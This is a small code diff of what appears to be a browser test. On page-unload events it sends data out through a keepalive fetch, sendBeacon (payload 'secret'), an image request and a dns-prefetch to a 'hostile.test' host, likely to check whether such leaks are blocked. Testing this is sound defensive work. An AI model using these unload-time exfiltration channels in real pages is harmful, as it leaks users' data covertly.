@@ -2,7 +2,8 @@
 import { address, element, finish } from './lib.js';
 
 const leave = event => {
-  fetch(address(`${event.type}-fetch`), { keepalive: true, method: 'POST', mode: 'no-cors', body: 'x' }).catch(() => {});
+  const last = { keepalive: true, method: 'POST', mode: 'no-cors', body: 'x' };
+  fetch(address(`${event.type}-fetch`), last).catch(() => {});
   navigator.sendBeacon?.(address(`${event.type}-beacon`), 'secret');
   new Image().src = address(`${event.type}-image`);
   document.head.append(element('link', { rel: 'dns-prefetch', href: `http://${event.type}.@CASE@.hostile.test/` }));
